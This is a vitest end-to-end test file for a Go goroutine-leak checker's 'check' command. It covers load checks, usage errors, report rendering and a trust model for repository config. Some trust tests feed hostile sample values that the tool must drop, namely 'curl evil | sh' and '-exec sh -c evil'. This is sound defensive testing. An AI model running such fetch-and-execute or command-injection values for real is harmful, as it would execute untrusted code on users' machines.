// End-to-end tests of `goroscope check` on the bundled example module, with the load check run
// against the example service (examples/cmd/service) started on 127.0.0.1 and stopped after.
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findGo, goEnv, goUnavailable, REPO_ROOT } from '../testing/env.js';
import { loadCheckConfig } from './config.js';
import { formatCheckMarkdown } from './report.js';
import { applyConfigTrust, splitTestFlags } from './trust.js';

const execFileP = promisify(execFile);
const CLI = path.join(REPO_ROOT, 'dist/cli/main.js');
const EXAMPLES = path.join(REPO_ROOT, 'examples');
const skip = goUnavailable();

async function startService(binary: string, leaky: boolean): Promise<{ child: ChildProcess; addr: string }> {
  const child = spawn(binary, ['-addr', '127.0.0.1:0', ...(leaky ? ['-leaky'] : [])], { stdio: ['ignore', 'pipe', 'inherit'] });
  const addr = await new Promise<string>((resolve, reject) => {
    let out = '';
    child.stdout!.on('data', (c: Buffer) => {
      out += c.toString();
      const m = /listening on (\S+)/.exec(out);
      if (m) resolve(m[1]!);
    });
    child.on('exit', (code) => reject(new Error(`service exited with ${code}`)));
  });
  return { child, addr };
}

interface CheckRun {
  code: number;
  report: { passed: boolean; items: Array<{ id: string; status: string; summary: string; details: string[] }>; warnings: string[] };
  stdout: string;
  stderr: string;
}

/** `goroscope check --format json`: stdout must hold the report and nothing else. */
async function check(args: string[], cwd = EXAMPLES): Promise<CheckRun> {
  try {
    const { stdout, stderr } = await execFileP('node', [CLI, 'check', '--format', 'json', '--go', findGo() ?? 'go', ...args], { cwd, env: goEnv(), maxBuffer: 64 << 20 });
    return { code: 0, report: JSON.parse(stdout), stdout, stderr };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { code: e.code, report: e.stdout ? JSON.parse(e.stdout) : null, stdout: e.stdout, stderr: e.stderr };
  }
}

/** A repository (a directory holding .git) with a Go file and this .goroscope.yaml. */
function repoWithConfig(config: string): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'goroscope-trust-'));
  mkdirSync(path.join(dir, '.git'));
  writeFileSync(path.join(dir, 'go.mod'), 'module shop\n\ngo 1.19\n');
  writeFileSync(path.join(dir, 'main.go'), 'package main\n\nfunc main() {}\n');
  writeFileSync(path.join(dir, '.goroscope.yaml'), config);
  return dir;
}

/** The load item's summary numbers agree with each other: the pair printed is the pair compared. */
function expectConsistentSummary(summary: string): void {
  const m = /^goroutines (\d+) before, (\d+) after the load \(([+-]\d+\.\d)%\)/.exec(summary);
  expect(m, summary).not.toBeNull();
  const [before, after] = [Number(m![1]), Number(m![2])];
  expect(Number(m![3])).toBeCloseTo(((after - before) / before) * 100, 1);
}

const load = (addr: string) => `node -e "(async () => { for (let i = 0; i < 30; i++) await fetch('http://${addr}/search?q=' + i); })()"`;

describe.skipIf(skip)(`goroscope check end to end${skip ? ` (skipped: ${skip})` : ''}`, () => {
  let dir = '';
  let binary = '';
  const services: ChildProcess[] = [];
  beforeAll(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'goroscope-check-'));
    binary = path.join(dir, 'service');
    await execFileP(findGo()!, ['build', '-o', binary, './cmd/service'], { cwd: EXAMPLES, env: goEnv() });
  }, 120_000);
  afterAll(() => {
    for (const s of services) s.kill('SIGTERM');
    rmSync(dir, { recursive: true, force: true });
  });

  it('passes the load check when goroutines return to their level', async () => {
    const svc = await startService(binary, false);
    services.push(svc.child);
    const r = await check(['--skip', 'scan,test', '--service', `http://${svc.addr}/debug/pprof/goroutine`, '--load', `${load(svc.addr)} && echo load command output`]);
    // The load command's output goes to stderr; stdout is the report alone (parsed by check()).
    expect(r.stderr).toBe('load command output\n');
    const item = r.report.items.find((i) => i.id === 'load')!;
    expect(item.status, JSON.stringify(item)).toBe('passed');
    expectConsistentSummary(item.summary);
    expect(r.code).toBe(0);
  }, 60_000);

  it("runs the config's load command and reads its service only with --trust-config", async () => {
    const svc = await startService(binary, false);
    services.push(svc.child);
    const repo = repoWithConfig(`check:\n  service: http://${svc.addr}/debug/pprof/goroutine\n  load: "touch load-ran"\n`);
    try {
      const untrusted = await check(['--skip', 'scan,test'], repo);
      expect(untrusted.code, untrusted.stderr).toBe(0);
      const item = untrusted.report.items.find((i) => i.id === 'load')!;
      expect(item.status).toBe('skipped');
      expect(item.summary).toMatch(/^check\.service \(.*\.goroscope\.yaml:2\) and check\.load \(.*\.goroscope\.yaml:3\) ignored: a repository's \.goroscope\.yaml is not trusted/);
      expect(untrusted.report.warnings).toEqual([item.summary]);
      expect(existsSync(path.join(repo, 'load-ran'))).toBe(false);
      const trusted = await check(['--skip', 'scan,test', '--trust-config'], repo);
      expect(trusted.code, trusted.stderr).toBe(0);
      expect(trusted.report.items.find((i) => i.id === 'load')!.status).toBe('passed');
      expect(trusted.report.warnings).toEqual([]);
      expect(existsSync(path.join(repo, 'load-ran'))).toBe(true);
    } finally {
      rmSync(repo, { recursive: true, force: true });
    }
  }, 60_000);

  it('runs the whole checklist on the example and fails on the leaks it has', async () => {
    const svc = await startService(binary, true);
    services.push(svc.child);
    const r = await check(['./...', '--service', `http://${svc.addr}/debug/pprof/goroutine`, '--load', load(svc.addr), '--settle', '2s']);
    expect(r.code).toBe(1);
    const byId = Object.fromEntries(r.report.items.map((i) => [i.id, i]));
    expect(byId.scan!.status).toBe('failed');
    expect(byId.scan!.details.length).toBeGreaterThan(0);
    expect(byId.test!.status).toBe('passed');
    expect(byId.load!.status).toBe('failed');
    expectConsistentSummary(byId.load!.summary);
    expect(byId.load!.summary).toMatch(/; 1 group\(s\) grew$/);
    expect(byId.load!.details.join('\n')).toMatch(/^new: 0 -> 30 goroutine\(s\) in chan send at main\.main\.func1\.1 \(.*examples\/cmd\/service\/main\.go:35\)$/m);
  }, 180_000);

  it('says why the load check is skipped when no service is given', async () => {
    const r = await check(['--skip', 'scan,test']);
    expect(r.code).toBe(0);
    expect(r.report.items.find((i) => i.id === 'load')).toMatchObject({ status: 'skipped', summary: 'no --service URL and --load command given' });
  });

  it('reports a service that is down as a usage/I-O error, exit 2', async () => {
    const r = await check(['--skip', 'scan,test', '--service', 'http://127.0.0.1:9/debug/pprof/goroutine', '--load', 'true']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^goroscope: cannot read the goroutine profile at http:\/\/127\.0\.0\.1:9/);
  });
});

describe('check usage errors (no Go needed)', () => {
  it.each([
    [['--service', 'http://127.0.0.1:9/debug/pprof/goroutine'], /^goroscope: --service needs --load: /],
    [['--load', 'true'], /^goroscope: --load needs --service: /],
  ])('refuses half a load check: %j', async (args, message) => {
    const r = await check(['--skip', 'scan,test', ...args]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(message);
  });

  it('says so when the other half was in an untrusted config', async () => {
    const repo = repoWithConfig('check:\n  load: "touch load-ran"\n');
    try {
      const r = await check(['--skip', 'scan,test', '--service', 'http://127.0.0.1:9/debug/pprof/goroutine'], repo);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/^goroscope: --service needs --load: .*\(check\.load \(.*\.goroscope\.yaml:2\) ignored: a repository's \.goroscope\.yaml is not trusted/);
      expect(existsSync(path.join(repo, 'load-ran'))).toBe(false);
    } finally {
      rmSync(repo, { recursive: true, force: true });
    }
  });

  it('fails the scan item when a file could not be analysed, unless --allow-errors', async () => {
    const repo = repoWithConfig('');
    symlinkSync(path.join(repo, 'nowhere.go'), path.join(repo, 'gone.go'));
    try {
      const r = await check(['--skip', 'test,load', './...'], repo);
      expect(r.code).toBe(1);
      const scan = r.report.items.find((i: { id: string }) => i.id === 'scan');
      expect(scan.status).toBe('failed');
      expect(scan.summary).toMatch(/^0 finding\(s\) .*; 1 file\(s\) not analysed$/);
      expect(scan.details[0]).toMatch(/^gone\.go:\d+: not analysed: cannot read/);
      const allowed = await check(['--skip', 'test,load', '--allow-errors', './...'], repo);
      expect(allowed.code).toBe(0);
      expect(allowed.report.items.find((i: { id: string }) => i.id === 'scan').summary).toMatch(/1 other file error\(s\)$/);
    } finally {
      rmSync(repo, { recursive: true, force: true });
    }
  });

  it('checks --output before running anything', async () => {
    const r = await check(['--skip', 'scan,test', '--output', path.join(os.tmpdir(), 'no-such-goroscope-dir', 'r.json')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^goroscope: cannot write --output ".*r\.json": directory .*no-such-goroscope-dir does not exist$/m);
  });
});

describe('check configuration and markdown', () => {
  it('reads the check: section with its locations in errors', () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'goroscope-cfg-'));
    const file = path.join(dir, '.goroscope.yaml');
    writeFileSync(file, 'rules:\n  bare-go: on\ncheck:\n  skip: [load]\n  testFlags: [-race]\n  maxGrowth: 10\n  settle: 3s\n');
    expect(loadCheckConfig(file)).toEqual({ skip: ['load'], testFlags: ['-race'], maxGrowth: 10, settleMs: 3000, locations: { testFlags: `${file}:5` } });
    writeFileSync(file, 'check:\n  skip: [lint]\n');
    expect(() => loadCheckConfig(file)).toThrow(/\.goroscope\.yaml:2: check\.skip: unknown item "lint"/);
    rmSync(dir, { recursive: true, force: true });
  });

  it('renders a pull-request comment with escaped details and warnings', () => {
    const md = formatCheckMarkdown({
      version: '0',
      passed: false,
      interrupted: null,
      items: [{ id: 'scan', title: 'Static scan', status: 'failed', summary: '1 finding', details: ['a.go:3: x|y <b>'] }],
      missedByScan: [{ package: 'shop', test: 'TestA', count: 2, location: { file: 'a.go', line: 9 }, explanation: 'nothing in the package can release this send' }],
      warnings: ['check.load (.goroscope.yaml:3) ignored'],
    });
    expect(md).toContain('Leaks the scan did not find (1):\n\n- shop: TestA leaks 2 goroutine(s) at a.go:9: nothing in the package can release this send\n');
    expect(md).toContain('| ❌ | Static scan | 1 finding |');
    expect(md).toContain('- a.go:3: x\\|y \\<b\\>');
    expect(md).toContain('\n- ⚠️ check.load (.goroscope.yaml:3) ignored\n');
  });

  it('keeps from an untrusted config only what cannot run a program or reach an address', () => {
    const config = { skip: ['scan' as const], service: 'http://10.0.0.1/', load: 'curl evil | sh', maxGrowth: 3, testFlags: ['-race', '-run', 'TestX'], locations: { service: 'c.yaml:4', load: 'c.yaml:5' } };
    const untrusted = applyConfigTrust(config, false);
    expect(untrusted.config).toEqual({ skip: ['scan'], maxGrowth: 3, testFlags: ['-race', '-run', 'TestX'], locations: config.locations });
    expect(untrusted.loadIgnored).toMatch(/^check\.service \(c\.yaml:4\) and check\.load \(c\.yaml:5\) ignored: /);
    expect(untrusted.testFlagsIgnored).toBeNull();
    expect(applyConfigTrust(config, true)).toEqual({ config, loadIgnored: null, testFlagsIgnored: null });
  });

  it("keeps --shake and its options, which run nothing of the repository's choosing", () => {
    expect(splitTestFlags(['--shake', '20', '--shake-prob=0.5', '--shake-until-found', '--shake-deps', '--shake-seed', '1,2'])).toEqual({
      kept: ['--shake', '20', '--shake-prob=0.5', '--shake-until-found', '--shake-deps', '--shake-seed', '1,2'],
      dropped: [],
    });
  });

  it('drops test flags that name a program to run or a file to read or write', () => {
    expect(
      splitTestFlags(['-race', '-exec', 'sh -c evil', '-toolexec=x', '-run', 'TestA', '-ldflags', '-extld=/tmp/x', '-tags=it', '-test.coverprofile=/etc/x', '-o', 'bin', '--count', '2', '--go', '/tmp/go', './...', '-update']),
    ).toEqual({
      kept: ['-race', '-run', 'TestA', '-tags=it', '--count', '2'],
      dropped: ['-exec', 'sh -c evil', '-toolexec=x', '-ldflags', '-extld=/tmp/x', '-test.coverprofile=/etc/x', '-o', 'bin', '--go', '/tmp/go', './...', '-update'],
    });
  });
});
